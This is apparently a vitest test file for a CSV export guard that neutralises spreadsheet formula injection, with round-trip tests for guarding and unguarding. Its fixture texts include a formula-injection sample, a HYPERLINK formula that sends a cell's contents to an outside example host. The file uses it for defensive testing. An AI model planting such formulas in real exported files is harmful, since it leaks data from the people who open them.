// CSV export guards spreadsheet formulas (OWASP: a leading single quote); the guard is undone
// exactly, so export → parse → unguard gives back every text, including ones that start with
// a quote themselves.
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { openDb } from '../../../src/main/core/db';
import { FORMULA_TRIGGERS, guardCsvCell, unguardCsvCell } from '../../../src/main/core/datasets/csv-guard';
import { exportDataset } from '../../../src/main/core/datasets/export';
import { tempDir } from '../../helpers';

const TEXTS = [
  ...FORMULA_TRIGGERS.map((c) => `${c}1+1 says the record`),
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '@SUM(A1:A9)',
  '-5 points, said "they"',
  "'quoted at the start",
  "'=already quoted formula",
  "''=two quotes then a formula",
  "'",
  "''",
  "it's fine",
  'plain text',
  'a = b in the middle',
  '',
];

describe('guardCsvCell / unguardCsvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=x", "''=x"],
    ["'x", "'x"],
    ['x=1', 'x=1'],
    ['', ''],
  ])('guards %j as %j', (cell, guarded) => {
    expect(guardCsvCell(cell)).toBe(guarded);
  });

  it.each(TEXTS)('gives back %j after guard and unguard', (text) => {
    expect(unguardCsvCell(guardCsvCell(text))).toBe(text);
  });

  it('removes a quote only before a trigger character', () => {
    expect(unguardCsvCell("'hello")).toBe("'hello");
    expect(unguardCsvCell("'=x")).toBe('=x');
    expect(unguardCsvCell("'''-x")).toBe("''-x");
  });
});

describe('CSV export guards formulas', () => {
  function exported(opts: { rawCsv?: boolean } = {}) {
    const db = openDb(path.join(tempDir(), 'srlab.sqlite'));
    const id = Number(
      db.prepare("INSERT INTO datasets (name, created_at) VALUES ('cmd', '2024-01-01')").run().lastInsertRowid,
    );
    const insert = db.prepare(
      'INSERT INTO records (dataset_id, text, benign, target, disagrees, content_hash) VALUES (?, ?, ?, ?, 0, ?)',
    );
    TEXTS.forEach((t, i) => insert.run(id, t, t, t, `h${i}`));
    const out = path.join(tempDir(), 'r.csv');
    exportDataset(db, { id, name: 'cmd' }, { split: 'all', format: 'csv', out, ...opts });
    db.close();
    return parse(fs.readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
  }

  it('starts no cell with a trigger character by default', () => {
    for (const row of exported())
      for (const cell of Object.values(row)) expect(FORMULA_TRIGGERS.some((c) => cell.startsWith(c))).toBe(false);
  });

  it('round-trips every text, benign variation and target through the guard', () => {
    const rows = exported();
    expect(rows.map((r) => unguardCsvCell(r.text!))).toEqual(TEXTS);
    expect(rows.map((r) => unguardCsvCell(r.benign_variation!))).toEqual(TEXTS);
    expect(rows.map((r) => unguardCsvCell(r.target_demographic!))).toEqual(TEXTS);
  });

  it('writes the exact text with rawCsv', () => {
    expect(exported({ rawCsv: true }).map((r) => r.text)).toEqual(TEXTS);
  });
});
